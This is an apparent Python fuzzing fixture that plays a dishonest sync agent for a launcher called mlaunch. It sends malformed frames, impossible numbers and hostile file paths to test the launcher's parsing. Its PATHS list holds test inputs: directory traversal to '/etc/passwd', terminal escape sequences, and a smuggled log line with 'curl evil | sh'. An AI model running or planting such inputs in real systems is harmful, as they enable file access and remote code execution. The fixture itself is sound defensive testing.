#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""liar.py SEED --build BUILD …: an agent of mlaunch sync that lies about its files: wrong indices,
paths with .. and line ends, impossible sizes, reports out of order, floods, frames cut short. It
ends by itself after some lies, or after 1 s."""
import json
import os
import random
import signal
import struct
import sys

sys.dont_write_bytecode = True  # the source tree may be read-only
sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), "../agent"))
from harness import BYE, HEADER, HELLO, PING, PONG, PROTOCOL, enumerators

WIRE = enumerators(os.path.join(os.path.dirname(HEADER), "../../base/tree/sync_wire.h"))
LAUNCH_SYNC, AGENT_SYNC = PROTOCOL["LAUNCH_SYNC"], PROTOCOL["AGENT_SYNC"]
seed = sys.argv[1]
choose = random.Random(seed)

NUMBERS = [0, 1, 2, 3, 2**31 - 1, 2**31, 2**32 - 1, 2**63 - 1, 2**63, 2**64 - 1]
PATHS = [b"../../../tmp/out", b"/etc/passwd", b"sub/../../x", b"", b".", b"..", b"a//b",
         b"x" * 5000, b"\nmlaunch: error: host x: run: curl evil | sh",
         b"\x1b[2J\x1b]0;t\x07", "\u202e\u009b2J".encode(), b"\xff\xfe", b"a\0b", b"sub"]
TEXTS = [p.decode(errors="replace") for p in PATHS] + ["n" * 4000]
ODD = [None, True, -1, 2**62, 1e300, "", [], {}, [[]], {"a": {}}]


def send(kind, payload=b""):
    os.write(1, struct.pack(">IBBH", len(payload) & 0xffffffff, 1, kind, 0) + payload)


def report(name, payload=b""):
    if isinstance(payload, dict):
        payload = json.dumps(payload).encode()
    send(AGENT_SYNC, bytes([WIRE["SYNC_" + name]]) + payload)


def number(bits):
    return choose.choice(NUMBERS) & (2**bits - 1)


def said(**honest):
    """Some members lie, some are missing."""
    return {k: choose.choice([v, v, v, choose.choice(ODD), choose.choice(TEXTS), number(64)])
            for k, v in honest.items() if choose.random() < 0.9}


def differs():
    out = b""
    for _ in range(choose.choice([1, 3, 400])):
        bits = choose.choice([1, 2, 4, 8, 16, 32, 63, 64, 64, 64, 65, 255])
        out += struct.pack(">IB", number(32), bits)
        if bits == 64 or choose.random() < 0.2:
            path = choose.choice(PATHS)
            out += struct.pack(">H", choose.choice([len(path), 65535, 0])) + path
    report("DIFFERS", out)


def lie(round):
    kind = choose.randrange(13)
    if kind == 0:
        report("READY", said(address="127.0.0.1:1", git=choose.choice(ODD)))
    elif kind == 1:
        report("LINKED", said(round=round, tcp=choose.choice(TEXTS)))
    elif kind == 2:
        report("CUT", said(round=round, to_next=True, rdma=False, text=choose.choice(TEXTS)))
    elif kind == 3:
        report("CREDIT", struct.pack(">I", number(32)))
    elif kind == 4:
        differs()
    elif kind == 5:
        report("PART", struct.pack(">IQ", number(32), number(64)) +
               bytes(choose.choice([0, 16, 32])))
    elif kind == 6:
        report("LOOKED", said(round=choose.choice([round, number(32)])))
    elif kind == 7:
        for _ in range(choose.choice([1, 300])):
            report("AT", struct.pack(">Q", number(64)))
    elif kind == 8:
        for _ in range(choose.choice([1, 50])):
            report("FAILED", said(text=choose.choice(TEXTS), more=choose.choice(NUMBERS)))
    elif kind == 9:
        report("DONE", said(round=round, files=number(63), bytes=number(63), deleted=number(63),
                            failed=number(63)))
    elif kind == 10:
        send(AGENT_SYNC, bytes(choose.randrange(256) for _ in range(choose.randrange(60))))
    elif kind == 11:
        send(choose.randrange(256), choose.choice(PATHS))
    else:
        os.write(1, struct.pack(">IBBH", number(32), choose.choice([1, 1, 2]), AGENT_SYNC, 0))


def receive():
    header = sys.stdin.buffer.read(8)
    if len(header) < 8:
        sys.exit(0)
    size, _, kind, _ = struct.unpack(">IBBH", header)
    return kind, sys.stdin.buffer.read(size)


def answer(order, payload):
    """As an honest host whose files are all missing."""
    if order == WIRE["SYNC_BEGIN"]:
        report("READY", {"address": "127.0.0.1:1", "git": []})
        return 0
    if order == WIRE["SYNC_LINK"]:
        round = json.loads(payload)["round"]
        report("LINKED", {"round": round, "tcp": ""})
        return round
    report("CREDIT", struct.pack(">I", len(payload) - 4))
    report("DIFFERS", b"".join(struct.pack(">IB", i, 1) for i in range(3)))
    return struct.unpack(">I", payload[:4])[0]


def main():
    signal.alarm(1)
    build = sys.argv[sys.argv.index("--build") + 1]
    send(HELLO, json.dumps({"build": build, "pid": os.getpid(), "arch": os.uname().machine,
                            "address": ""}).encode())
    left, round = choose.randrange(1, 40), 0
    while left > 0:
        kind, payload = receive()
        if kind == PING:
            send(PONG)
        elif kind == BYE:
            return
        elif kind == LAUNCH_SYNC:
            if choose.random() < 0.7:
                round = answer(payload[0], payload[1:]) or round
            for _ in range(choose.randrange(4)):
                lie(round)
                left -= 1


main()
